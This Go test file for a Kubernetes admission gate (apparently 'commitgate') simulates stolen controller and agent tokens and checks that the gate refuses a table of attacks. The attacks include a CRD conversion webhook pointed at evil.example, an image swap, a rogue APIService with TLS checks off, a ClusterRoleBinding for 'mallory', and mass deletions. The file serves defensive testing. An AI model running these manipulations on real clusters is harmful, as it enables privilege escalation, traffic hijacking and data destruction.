package controllers

import (
	"fmt"
	"strings"
	"testing"

	authenticationv1 "k8s.io/api/authentication/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/commitgate/commitgate/test/cluster"
)

// widgetsOfGit is a definition that Git declares, and one of its objects; rightsOfControllers is what lets a thief of a controller's token try everything.
const (
	widgetsOfGit = `
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: widgets.example.com}
spec:
  group: example.com
  scope: Namespaced
  names: {plural: widgets, kind: Widget}
  versions:
  - {name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, properties: {spec: {type: object, properties: {size: {type: integer}}}}}}}
`
	widgetOfGit = `
apiVersion: example.com/v1
kind: Widget
metadata: {name: gear, namespace: shop}
spec: {size: 1}
`
	rightsOfControllers = `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: too-much}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects:
- {kind: ServiceAccount, name: deployment-controller, namespace: kube-system}
- {kind: ServiceAccount, name: generic-garbage-collector, namespace: kube-system}
- {kind: ServiceAccount, name: clusterrole-aggregation-controller, namespace: kube-system}
`
)

// stolen is a controller's token, as kube-controller-manager itself has it made, in a thief's hands.
func (g *gate) stolen(controller string) *person {
	g.t.Helper()
	manager, err := g.cluster.User("system:kube-controller-manager")
	if err != nil {
		g.t.Fatal(err)
	}
	client, err := kubernetes.NewForConfig(manager)
	if err != nil {
		g.t.Fatal(err)
	}
	token, err := client.CoreV1().ServiceAccounts("kube-system").CreateToken(g.t.Context(), controller, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
	if err != nil {
		g.t.Fatal(err)
	}
	who := &rest.Config{Host: manager.Host, BearerToken: token.Status.Token, TLSClientConfig: rest.TLSClientConfig{CAData: manager.CAData}}
	kubeconfig, err := g.cluster.Kubeconfig(controller, who)
	if err != nil {
		g.t.Fatal(err)
	}
	return &person{g, kubeconfig}
}

// TestPitfallsForReal tries against a real API server what others fail at (docs/pitfalls.md): with the agent's token, with every right, with a controller's
// token. The agent's window is as good as closed, so that what Git said before counts no more.
func TestPitfallsForReal(t *testing.T) {
	g := start(t, cluster.Config{}, "  window: 1ms\n")
	flux, carol := g.person(agentUser), g.person("carol")
	const settings = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings, namespace: shop}\ndata: {color: blue}"
	all := strings.Join([]string{strings.TrimSpace(shopOfOne), strings.TrimSpace(widgetsOfGit), strings.TrimSpace(widgetOfGit), strings.TrimSpace(rightsOfControllers)}, "\n---\n")
	g.declare(all)
	g.eventually("applied", func() error { return flux.try(all) })
	flux.becomes("replicasets={.items[0].spec.replicas}", "1")
	g.expectNoRefusals("the shop opens")
	replicaSet := "replicaset/" + flux.get("replicasets={.items[0].metadata.name}")
	deployer, garbage, aggregator := g.stolen("deployment-controller"), g.stolen("generic-garbage-collector"), g.stolen("clusterrole-aggregation-controller")

	const (
		image      = `--patch={"spec":{"template":{"spec":{"containers":[{"name":"web","image":"evil"}]}}}}`
		conversion = `--patch={"spec":{"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://evil.example/"}}}}}`
		owner      = `--patch={"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"3d0c5b0e-0000-0000-0000-000000000000"}]}}`
		service    = "apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata: {name: v1beta9.example.com}\n" +
			"spec: {group: example.com, version: v1beta9, groupPriorityMinimum: 9000, versionPriority: 90, insecureSkipTLSVerify: true, service: {name: evil, namespace: shop}}\n"
		bound = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: mine}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit}\nsubjects: [{kind: User, apiGroup: rbac.authorization.k8s.io, name: mallory}]\n"
	)
	thieves := map[string]*person{"the agent's token": flux, "every right": carol, "a controller's token": deployer, "the garbage collector's token": garbage}
	tries := map[string]struct {
		stdin string
		args  []string
	}{
		"08 an aggregated API server":             {service, []string{"create", "-f", "-"}},
		"09 a conversion webhook":                 {"", []string{"patch", "crd/widgets.example.com", "--type=merge", conversion}},
		"12 an owner that is gone":                {"", []string{"patch", "configmap/settings", "--type=merge", owner}},
		"13 a finalizer that keeps it":            {"", []string{"patch", "configmap/settings", "--type=merge", `--patch={"metadata":{"finalizers":["example.com/stay"]}}`}},
		"14 another image":                        {"", []string{"patch", "deployment/web", image}},
		"17 another image in what follows":        {"", []string{"patch", replicaSet, image}},
		"31 a token of the agent, or anybody's":   {"", []string{"create", "token", "default"}},
		"31 a binding":                            {bound, []string{"create", "-f", "-"}},
		"32 an object of one's own":               {"", []string{"create", "configmap", "mine"}},
		"10 all of a kind":                        {"", []string{"delete", "configmaps", "--all", "--wait=false"}},
		"11 the namespace":                        {"", []string{"delete", "namespace/shop", "--wait=false"}},
		"05 a scaled ReplicaSet":                  {"", []string{"scale", replicaSet, "--replicas=0"}},
		"40 a role that aggregates nothing":       {"", []string{"patch", "clusterrole/view", "--type=json", `--patch=[{"op":"add","path":"/metadata/labels/rbac.example.com~1aggregate","value":"true"}]`}},
		"30 the same by a dry-run":                {"", []string{"patch", "deployment/web", image, "--dry-run=server"}},
		"15 with the agent's field manager":       {"", []string{"label", "configmap/settings", "team=red", "--field-manager=kustomize-controller"}},
		"16 by a server-side apply, with force":   {strings.Replace(settings, "blue", "red", 1), []string{"apply", "--server-side", "--force-conflicts", "-f", "-"}},
		"22 a label that opts a namespace out":    {"", []string{"label", "namespace/shop", "admission.gatekeeper.sh/ignore=x"}},
		"23 a declared object's labels taken off": {"", []string{"label", "configmap/settings", "kustomize.toolkit.fluxcd.io/name-"}},
	}
	for what, try := range tries {
		for who, thief := range thieves {
			t.Run(what+", with "+who, func(t *testing.T) {
				out, err := thief.cluster.Kubectl(t.Context(), thief.kubeconfig, try.stdin, append([]string{"--namespace=shop"}, try.args...)...)
				if err == nil || !strings.Contains(err.Error(), "gate.commitgate.dev") {
					t.Errorf("got %s %v, want the gate's refusal", out, err)
				}
				if err != nil && strings.Contains(strings.ToLower(err.Error()), "immutable") {
					t.Errorf("44: an agent would delete the object for this: %v", err)
				}
			})
		}
	}
	t.Run("40 the aggregation controller's token, for a role of one's own", func(t *testing.T) {
		if out, err := aggregator.kubectl(t.Context(), "create", "clusterrole", "mine", "--verb=*", "--resource=secrets"); err == nil || !strings.Contains(err.Error(), "gate.commitgate.dev") {
			t.Errorf("got %s %v, want the gate's refusal", out, err)
		}
	})
	t.Run("34 the version before, with the agent's token", func(t *testing.T) {
		next := strings.Replace(all, "color: blue", "color: green", 1)
		g.declare(next)
		flux.apply(next)
		if err := flux.try(settings); err == nil || !strings.Contains(err.Error(), "FieldsDiffer") {
			t.Errorf("rolled back: %v", err)
		}
		if got := flux.get("configmap/settings={.data.color}"); got != "green" {
			t.Errorf("the settings are %s", got)
		}
	})
	g.refusals()
	g.nearLimit(flux)
}

// nearLimit has the agent create and change a definition that is nearly as large as etcd takes: its review holds it twice.
func (g *gate) nearLimit(flux *person) {
	const fields, size = 15, 92_000
	definition := func(letter string) string {
		var properties strings.Builder
		for i := range fields {
			fmt.Fprintf(&properties, "f%d: {type: string, description: %q}, ", i, strings.Repeat(letter, size))
		}
		return "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: manuals.example.com}\n" +
			"spec: {group: example.com, scope: Namespaced, names: {plural: manuals, kind: Manual}, versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, properties: {" + properties.String() + "}}}}]}"
	}
	for _, letter := range []string{"a", "b"} {
		g.declare(definition(letter))
		flux.apply(definition(letter))
	}
	if got := flux.get("crd/manuals.example.com={.spec.versions[0].schema.openAPIV3Schema.properties.f0.description}"); got != strings.Repeat("b", size) {
		g.t.Errorf("the near-limit definition holds %d bytes of its first description", len(got))
	}
	if err := flux.try(definition("c")); err == nil || !strings.Contains(err.Error(), "FieldsDiffer") {
		g.t.Errorf("39: a near-limit object that Git does not say: %v", err)
	}
	for _, r := range g.refusals() {
		if len(r.message) > 2000 {
			g.t.Errorf("39: a refusal of %d bytes", len(r.message))
		}
	}
}
